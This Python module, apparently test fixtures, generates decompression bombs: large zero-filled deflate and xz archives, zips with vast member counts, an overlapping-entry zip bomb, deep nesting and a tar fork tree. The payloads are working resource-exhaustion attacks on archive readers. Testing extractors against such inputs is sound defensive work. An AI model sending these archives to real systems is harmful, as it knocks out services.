"""Containers made to exhaust whoever opens them. Each is small itself."""

from __future__ import annotations

import io
import lzma
import struct
import tarfile
import zipfile
import zlib


def deflate_bomb(unpacked: int) -> bytes:
    """A zip with one member of `unpacked` zeros."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros", "w", force_zip64=True) as out,
    ):
        for _ in range(unpacked >> 20):
            out.write(bytes(1 << 20))
    return made.getvalue()


def xz_bomb(unpacked: int) -> bytes:
    compressor = lzma.LZMACompressor(preset=0)
    return b"".join([*(compressor.compress(bytes(1 << 20)) for _ in range(unpacked >> 20)), compressor.flush()])


def many_members(count: int) -> bytes:
    """`count` empty stored members."""
    local, central = [], []
    at = 0
    for number in range(count):
        name = b"%07d" % number
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0)
        local.append(b"PK\3\4" + fields + name)
        central.append(b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, at) + name)
        at += len(local[-1])
    return _with_end(b"".join(local), b"".join(central), count)


def overlapping(count: int, unpacked: int) -> bytes:
    """`count` members whose local headers are followed by the same compressed zeros: each header but the last has an
    extra field that covers the headers behind it."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(unpacked)
    body = compressor.compress(zeros) + compressor.flush()
    size = 30 + 4
    local, central = [], []
    for number in range(count):
        extra = min(size * (count - 1 - number), 0xFFFF // size * size)
        behind = size * (count - 1 - number) - extra
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, zlib.crc32(zeros), len(body) + behind, unpacked)
        name = b"%04d" % number
        local.append(b"PK\3\4" + fields + struct.pack("<HH", 4, extra) + name)
        central.append(
            b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHHHII", 4, 0, 0, 0, 0, 0, size * number) + name
        )
    return _with_end(b"".join(local) + body, b"".join(central), count)


def nested(depth: int) -> bytes:
    """Zip in zip, `depth` deep."""
    content, name = b"MZ the innermost", "inner.exe"
    for level in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, content)
        content, name = made.getvalue(), f"{level}.zip"
    return content


def fork_tree(width: int, depth: int) -> bytes:
    """Each archive holds `width` archives, `depth` deep."""
    content = b"leaf"
    for _ in range(depth):
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w:gz") as archive:
            for number in range(width):
                info = tarfile.TarInfo(f"{number}.tgz")
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
        content = made.getvalue()
    return content


def _with_end(local: bytes, central: bytes, count: int) -> bytes:
    shown = min(count, 0xFFFF)
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, shown, shown, len(central), len(local), 0)
